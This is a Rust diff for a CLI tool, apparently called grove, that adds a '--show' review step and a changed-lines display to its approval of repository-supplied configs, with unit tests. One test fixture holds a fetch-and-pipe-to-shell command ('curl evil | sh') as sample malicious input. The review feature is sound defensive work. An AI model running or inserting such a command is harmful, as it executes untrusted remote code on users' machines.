@@ -22,21 +22,26 @@ pub enum ConfigCommand {
     /// A workspace config that git tracks came with the repository (a clone,
     /// a pull) and chooses commands grove runs as you: engines, MCP servers,
     /// a worktree's setup. grove uses such a file only once you approved its
-    /// content, and again after each change. Read the file first: this
-    /// prints the commands it configures. Running members pick the approval
-    /// up at once. A config git does not track is yours and needs none.
+    /// content, and again after each change. Review it first with `--show`:
+    /// the commands and endpoints it configures, and the lines that changed
+    /// since your last approval. Running members pick the approval up at
+    /// once. A config git does not track is yours and needs none.
     Trust {
         /// Forget the approval instead: grove stops using the file (if git
         /// tracks it) until it is approved again.
         #[arg(long)]
         revoke: bool,
+        /// Show what approving would approve (the commands it configures,
+        /// the lines changed since your last approval) and approve nothing.
+        #[arg(long, conflicts_with = "revoke")]
+        show: bool,
     },
 }
 
 pub fn run(ctx: &Context, cmd: ConfigCommand) -> Result<i32, CliError> {
     let json = match cmd {
         ConfigCommand::Show { json } => json,
-        ConfigCommand::Trust { revoke } => return trust(ctx, revoke),
+        ConfigCommand::Trust { revoke, show } => return trust(ctx, revoke, show),
     };
     let rows = match &ctx.config_error {
         None => crate::config::explain(&ctx.ws.state_dir, &ctx.config),
@@ -130,9 +135,9 @@ fn describe(report: &LoadReport) -> String {
     }
 }
 
-/// `grove config trust [--revoke]`.
-fn trust(ctx: &Context, revoke: bool) -> Result<i32, CliError> {
-    use crate::trust::committed;
+/// `grove config trust [--revoke | --show]`.
+fn trust(ctx: &Context, revoke: bool, show: bool) -> Result<i32, CliError> {
+    use crate::trust::committed::{self, Approval};
     let path = ctx.ws.config_path();
     if revoke {
         let had = committed::revoke(&path).map_err(CliError::Failed)?;
@@ -166,13 +171,19 @@ fn trust(ctx: &Context, revoke: bool) -> Result<i32, CliError> {
         Ok(c) => Some(c.config),
         Err(_) => None,
     };
-    let commands = configured_commands(&content);
-    let record = committed::approve(&path, &content).map_err(CliError::Failed)?;
+    // What the user approves is shown before it is approved.
+    let before = committed::approved_copy(&path);
+    let state = committed::approval(&path, &content);
+    outln!("{} ({} bytes)", path.display(), content.len());
     outln!(
-        "approved {} as it is now ({} bytes)",
-        path.display(),
-        content.len()
+        "  {}",
+        match tracked {
+            Some(false) => "git does not track it: grove uses it without an approval",
+            Some(true) => "git tracks it: it came with the repository",
+            None => "grove cannot tell whether git tracks it",
+        }
     );
+    let commands = configured_commands(&content);
     if commands.is_empty() {
         outln!("  it configures no command");
     } else {
@@ -181,14 +192,89 @@ fn trust(ctx: &Context, revoke: bool) -> Result<i32, CliError> {
             outln!("    {line}");
         }
     }
+    match (&state, &before) {
+        (Approval::Approved, _) => outln!("  you approved it as it is now"),
+        (Approval::Changed, Some(old)) => {
+            outln!(
+                "  changed since your last approval (lines removed -, added +; order not compared):"
+            );
+            for line in changed_lines(old, &content) {
+                outln!("    {line}");
+            }
+        }
+        _ => outln!("  you never approved it"),
+    }
+    if show {
+        if state != Approval::Approved {
+            outln!("nothing approved: run `grove config trust` to use it as it is now");
+        }
+        return Ok(EXIT_OK);
+    }
+    let record = committed::approve(&path, &content).map_err(CliError::Failed)?;
+    outln!("approved {} as it is now", path.display());
     match tracked {
-        Some(false) => outln!(
-            "  git does not track it: grove used it without approval; the approval counts once it is committed"
-        ),
+        Some(false) => outln!("  the approval counts once git tracks it"),
         _ => outln!("  grove uses it until it changes; after a pull or an edit, approve it again"),
     }
     outln!("  (kept in {})", record.display());
     Ok(EXIT_OK)
+}
+
+/// The most changed lines `grove config trust` lists.
+const MAX_CHANGED_LINES: usize = 200;
+
+/// The lines of `old` that `new` lacks (`- line`) and the lines `new`
+/// adds (`+ line`), each counted as often as it occurs: a config is a set
+/// of settings, so moved lines are no change and a line diff's alignment
+/// would add nothing a reviewer needs. A line inside a table is shown
+/// after its `[table]` header; blank lines are left out.
+fn changed_lines(old: &[u8], new: &[u8]) -> Vec<String> {
+    use std::collections::HashMap;
+    let (old, new) = (String::from_utf8_lossy(old), String::from_utf8_lossy(new));
+    // Each line under a `[table]` header is named with it, so that a
+    // changed `command = ...` says whose command it is.
+    let lines = |text: &'_ str| -> Vec<String> {
+        let mut table = String::new();
+        let mut out = Vec::new();
+        for line in text.lines().map(str::trim_end) {
+            let bare = line.trim_start();
+            if bare.is_empty() {
+                continue;
+            }
+            if bare.starts_with('[') {
+                table = bare.to_string();
+                out.push(table.clone());
+            } else if table.is_empty() {
+                out.push(line.to_string());
+            } else {
+                out.push(format!("{table} {bare}"));
+            }
+        }
+        out
+    };
+    let (old, new) = (lines(&old), lines(&new));
+    let unmatched = |from: &[String], against: &[String], sign: char| {
+        let mut counts: HashMap<&str, usize> = HashMap::new();
+        for line in against {
+            *counts.entry(line).or_default() += 1;
+        }
+        let mut out = Vec::new();
+        for line in from {
+            match counts.get_mut(line.as_str()) {
+                Some(n) if *n > 0 => *n -= 1,
+                _ => out.push(format!("{sign} {line}")),
+            }
+        }
+        out
+    };
+    let mut changed = unmatched(&old, &new, '-');
+    changed.extend(unmatched(&new, &old, '+'));
+    if changed.len() > MAX_CHANGED_LINES {
+        let more = changed.len() - MAX_CHANGED_LINES;
+        changed.truncate(MAX_CHANGED_LINES);
+        changed.push(format!("… and {more} more changed lines"));
+    }
+    changed
 }
 
 /// The settings of a config file's text that name commands or endpoints
@@ -221,4 +307,41 @@ fn configured_commands(content: &[u8]) -> Vec<String> {
     show("notify".into(), table.get("notify"));
     show("personas_dir".into(), table.get("personas_dir"));
     lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::changed_lines;
+
+    #[test]
+    fn changed_lines_lists_what_went_and_came_ignoring_order_and_blanks() {
+        let old = b"max_parallel = 4\n\n[engines.a]\ncommand = [\"safe\"]\n";
+        let new = b"[engines.a]\ncommand = [\"curl evil | sh\"]\n\n\n[other]\n";
+        let new = [b"max_parallel = 4\n".as_slice(), new].concat();
+        let new = new.as_slice();
+        assert_eq!(
+            changed_lines(old, new),
+            vec![
+                "- [engines.a] command = [\"safe\"]".to_string(),
+                "+ [engines.a] command = [\"curl evil | sh\"]".to_string(),
+                "+ [other]".to_string(),
+            ]
+        );
+        assert!(changed_lines(new, new).is_empty());
+        // A key moved into a table changes its meaning; a repeated line
+        // counts as often as it occurs.
+        assert_eq!(
+            changed_lines(b"k = 1\n[t]\n", b"[t]\nk = 1\n"),
+            vec!["- k = 1".to_string(), "+ [t] k = 1".to_string()]
+        );
+        assert_eq!(changed_lines(b"x\n", b"x\nx\n"), vec!["+ x".to_string()]);
+    }
+
+    #[test]
+    fn changed_lines_are_capped() {
+        let new: String = (0..500).map(|i| format!("k{i} = {i}\n")).collect();
+        let changed = changed_lines(b"", new.as_bytes());
+        assert_eq!(changed.len(), super::MAX_CHANGED_LINES + 1);
+        assert!(changed.last().unwrap().contains("300 more"));
+    }
 }
